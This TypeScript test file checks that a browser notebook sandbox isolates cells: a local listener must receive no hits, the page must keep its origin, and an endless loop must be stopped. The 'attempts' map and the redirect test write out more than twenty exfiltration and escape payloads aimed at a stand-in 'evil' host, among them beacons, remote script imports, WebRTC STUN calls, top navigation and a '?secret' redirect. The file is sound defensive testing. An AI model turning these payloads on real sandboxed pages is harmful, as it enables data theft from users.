import { createServer } from "node:http";
import { createSocket } from "node:dgram";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Bench, bench, notebook, sample } from "./browser.ts";

const hits: string[] = [];
const listener = createServer((request, response) => {
  hits.push(`${request.method} ${request.url}`);
  response.setHeader("access-control-allow-origin", "*");
  response.end("ok");
});
const stun = createSocket("udp4");
stun.on("message", () => hits.push("udp"));

let desk: Bench;
let port = 0;
let udp = 0;
beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as { port: number }).port;
  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
  udp = stun.address().port;
  desk = await bench({ "scenarios/benefit-portal.yaml": sample });
});
afterAll(async () => {
  await desk.stop();
  listener.close();
  stun.close();
});

const attempts = (evil: string, own: string, udp: number): Readonly<Record<string, string>> => ({
  fetch: `await fetch("${evil}/fetch")`,
  api: `await fetch("${own}/api/files")`,
  xhr:
    `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", "${evil}/xhr"); x.send() })`,
  beacon: `navigator.sendBeacon("${evil}/beacon", "x")`,
  socket: `new WebSocket("${evil.replace("http", "ws")}/ws")`,
  events: `new EventSource("${evil}/events")`,
  image: `const i = new Image(); i.src = "${evil}/image"; document.body.append(i)`,
  style:
    `document.head.append(Object.assign(document.createElement("style"), {textContent: '@import "${evil}/css"; body { background: url(${evil}/bg) }'}))`,
  prefetch:
    `for (const rel of ["prefetch", "preload", "preconnect", "modulepreload", "dns-prefetch"]) document.head.append(Object.assign(document.createElement("link"), {rel, as: "script", href: "${evil}/" + rel}))`,
  form:
    `const f = document.createElement("form"); f.action = "${evil}/form"; document.body.append(f); f.submit()`,
  open: `globalThis.open("${evil}/open")`,
  link:
    `const a = document.createElement("a"); a.href = "${evil}/link"; a.target = "_blank"; document.body.append(a); a.click()`,
  script:
    `document.body.append(Object.assign(document.createElement("script"), {src: "${evil}/script"}))`,
  dynamic: `await (0, eval)('import("${evil}/import.js")')`,
  frame:
    `document.body.append(Object.assign(document.createElement("iframe"), {src: "${evil}/frame"}))`,
  nested:
    `document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: '<script>new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${udp}"}]}).createDataChannel("x")</script>'}))`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/worker")'])))`,
  rtc:
    `const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${udp}"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`,
  parent: `parent.document.title`,
  top: `top.location = "${evil}/top"`,
  storage: `localStorage.setItem("a", "b")`,
  cookie: `document.cookie = "a=b"; if (!document.cookie) throw new Error("none")`,
});

test("no cell reaches a listening server, the page around, or anything kept", async () => {
  const evil = `http://127.0.0.1:${port}`;
  const list = Object.entries(attempts(evil, desk.server.origin, udp));
  const cells = list.map(([name, code]) =>
    [
      "module",
      `const ${name}_ = await (async () => { try { ${code}; return "ran" } catch (error) { return error.name } })()`,
    ] as const
  );
  desk.server.files.set("notebooks/evil.html", notebook("evil", cells));
  const sheet = await desk.open("notebook/notebooks/evil.html", { view: "panes" });
  await sheet.run();
  await sheet.page.waitForTimeout(1500);
  expect(hits).toEqual([]);
  const said = (name: string) => sheet.frame.locator("html").evaluate(() => 0).then(() => name);
  expect(await said("alive")).toBe("alive");
  expect(new URL(sheet.page.url()).origin).toBe(desk.server.origin);
  expect(sheet.page.context().pages().length).toBe(1);
  expect(sheet.errors).toEqual([]);
  await sheet.close();
});

test("a cell that sends the frame away carries nothing, and the outputs come back or stop", async () => {
  const evil = `http://127.0.0.1:${port}`;
  desk.server.files.set(
    "notebooks/away.html",
    notebook("away", [["text/markdown", "# ここ"], [
      "module",
      `setTimeout(() => location.href = "${evil}/away?secret", 300)`,
    ]]),
  );
  const sheet = await desk.open("notebook/notebooks/away.html");
  await sheet.run();
  await sheet.page.waitForTimeout(1500);
  expect(hits).toEqual([]);
  expect(await sheet.code(1).innerText()).toContain("# ここ");
  await sheet.close();
});

test("an endless loop is stopped and named; the page stays usable", async () => {
  desk.server.files.set(
    "notebooks/loop.html",
    notebook("loop", [["module", "for (;;) {}"], ["text/markdown", "# ここ"]]),
  );
  const sheet = await desk.open("notebook/notebooks/loop.html");
  await sheet.run();
  await sheet.cell(1).locator(".problem").waitFor();
  expect(await sheet.cell(1).locator(".problem").innerText()).toContain("3 秒");
  await sheet.output(2).filter({ hasText: "ここ" }).waitFor();
  await sheet.close();
});
